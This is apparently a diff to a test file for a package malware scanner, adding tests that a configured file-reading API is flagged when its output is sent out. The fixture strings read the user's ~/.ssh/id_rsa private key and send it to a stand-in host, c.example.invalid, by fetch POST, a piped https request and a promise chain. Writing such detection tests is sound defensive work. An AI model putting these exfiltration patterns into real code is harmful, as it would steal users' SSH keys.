@@ -5,7 +5,7 @@ import { analyzePythonPackage } from "../../src/analyzers/python/index.js";
 import { evaluateFacts } from "../../src/rules/evaluate.js";
 import { loadSignatures } from "../../src/rules/signatures.js";
 import { dedent } from "../analyzers/python/helpers.js";
-import { base, extraDir, pkg, pyFindings, sourcesYaml } from "./models-helpers.js";
+import { base, extraDir, jsFindings, pkg, pyFindings, sourcesYaml } from "./models-helpers.js";
 
 const sources = (more: string) => loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", more) })]);
 
@@ -32,5 +32,21 @@ describe("sources.yaml fileApis.python", () => {
     // Unknown, the call's result is code of unknown origin; opened, it is the file, run as the package's code.
     expect(await pyPackageFindings(files, base)).toEqual(["credential-exfiltration critical pkg/stage.py:2", "obfuscated-code-execution medium pkg/__init__.py:2"]);
     expect(await pyPackageFindings(files, sources("fileApis: { python: { opens: [zorblat.zopen] } }\n"))).toEqual(["credential-exfiltration critical pkg/__init__.py:2", "credential-exfiltration critical pkg/stage.py:2"]);
+  });
+});
+
+describe("sources.yaml fileApis.js reads", () => {
+  it("a new reading member is a read however its result is used: a handle (Bun.file(p).text()), a stream, a promise", async () => {
+    const sigs = sources("fileApis: { js: { globals: [Zrt], reads: [zopen] } }\n");
+    const uses = [
+      'fetch("https://c.example.invalid/", { method: "POST", body: Zrt.zopen(key).text() });',
+      'Zrt.zopen(key).pipe(require("https").request("https://c.example.invalid/"));',
+      'Zrt.zopen(key).then((d) => fetch("https://c.example.invalid/", { method: "POST", body: d }));',
+    ];
+    for (const use of uses) {
+      const js = `const key = require("os").homedir() + "/.ssh/id_rsa";\n${use}\n`;
+      expect(await jsFindings(js, base)).toEqual([]);
+      expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 2"]);
+    }
   });
 });
